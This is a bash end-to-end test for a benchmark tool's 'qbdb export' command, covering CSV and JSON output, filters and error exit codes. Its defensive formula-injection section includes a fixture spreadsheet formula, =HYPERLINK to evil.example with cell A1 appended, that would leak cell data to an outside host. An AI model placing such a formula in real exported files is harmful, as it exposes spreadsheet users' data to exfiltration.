#!/usr/bin/env bash
# End to end: `qbdb export` as a user runs it - CSV and JSON to a file or standard output, the
# filters, and the usage and write errors with their exit codes.
source "$(dirname "$0")/lib.bash"

run 0 "$QBDB" ingest --project py --commit aaaa1111 "$DATA/pytest/run1/benchmark.json"
run 0 "$QBDB" ingest --project py --commit bbbb2222 "$DATA/pytest/run2/benchmark.json"
run 0 "$QBDB" ingest --project rs --commit cccc3333 "$DATA/criterion/run1/target/criterion"

run 0 "$QBDB" export --out "$TMP/all.csv"
contains "$ERR" "exported 3 runs to $TMP/all.csv" "export says what it wrote"
equals "$(head -n 1 "$TMP/all.csv")" \
  "run_id,project,branch,machine,commit,commit_time,started_at,benchmark,group,params,metric,unit,direction,n,min,max,mean,median,stddev,p95,p99,q1,q3,outliers,estimate,ci_lo,ci_hi" \
  "the CSV header"
equals "$(tail -n +2 "$TMP/all.csv" | wc -l)" 26 "9 + 9 + 8 results (a Criterion throughput too)"
run 0 "$QBDB" export --project py --samples
equals "$(head -n 1 <<<"$OUT" | awk -F, '{print $NF}')" iterations "sample columns"
# 4066 + 3890 samples (docs: one row per sample)
equals "$(($(wc -l <<<"$OUT") - 1))" 7956 "one row per sample"
run 0 "$QBDB" export --format json --project rs
equals "$(jq '.runs | length' <<<"$OUT")" 1 "json: one run"
equals "$(jq -r '.runs[0].commit' <<<"$OUT")" cccc3333 "json: its commit"
run 0 "$QBDB" export --since 2099-01-01
equals "$(wc -l <<<"$OUT")" 1 "nothing since 2099: the header alone"

# CSV formula injection (OWASP): text cells starting with =, +, -, @, tab or CR get a leading
# apostrophe (inside the quotes when quoted); numbers, negative ones included, stay numbers
printf '%s\n' '{"format":"qbdb-native","version":1,"project":"csv","branch":"-b","machine":"@m","commit":"aaaa0001"}' \
  '{"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","group":"+grp","unit":"ns","value":5}' \
  '{"name":"delta","metric":"change","unit":"1","samples":[-5,-1.5,2]}' \
  '{"name":"-2+3","unit":"ns","value":1}' \
  '{"name":"@SUM(A1)","unit":"ns","value":1}' \
  '{"name":"\tTAB","unit":"ns","value":1}' \
  '{"name":"\rCR","unit":"ns","value":1}' \
  '{"name":"safe=1","unit":"ns","value":1}' >"$TMP/formula.jsonl"
run 0 "$QBDB" ingest "$TMP/formula.jsonl"
run 0 "$QBDB" export --project csv
csv=$OUT
contains "$csv" $'\n'"4,csv,'-b,'@m,aaaa0001," "branch and machine: apostrophe"
contains "$csv" ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'+grp,," "a formula name: quoted, apostrophe"
contains "$csv" ",'-2+3,,,latency," "a name starting with -"
contains "$csv" ",'@SUM(A1),,," "a name starting with @"
contains "$csv" ",'"$'\t'"TAB,,," "a name starting with a tab"
contains "$csv" ",\"'"$'\r'"CR\",,," "a name starting with CR: quoted, apostrophe"
contains "$csv" ",safe=1,,," "= elsewhere: unchanged"
contains "$csv" ",delta,,,change,1,lower,3,-5,2,-1.5,-1.5," "negative numbers stay numbers"
# every data row still has 27 fields (python's csv reader, as a spreadsheet would split them)
if command -v python3 >/dev/null; then
  equals "$(python3 -c 'import csv,sys; print(sorted({len(r) for r in csv.reader(sys.stdin)}))' <<<"$csv")" \
    "[27]" "every row 27 fields"
fi
run 0 "$QBDB" trend --project csv --format csv delta
contains "$OUT" $'\n'"4,aaaa0001," "trend csv: the commit as it is"

run 2 "$QBDB" export --format xml
one_line "$ERR" "bad format message"
contains "$ERR" "--format 'xml': expected csv or json" "bad format"
run 2 "$QBDB" export --since yesterday
contains "$ERR" "--since 'yesterday'" "bad since"
run 6 "$QBDB" export --out "$TMP/no/such/dir/x.csv"
contains "$ERR" "$TMP/no/such/dir/x.csv" "unwritable --out names the file"
finish
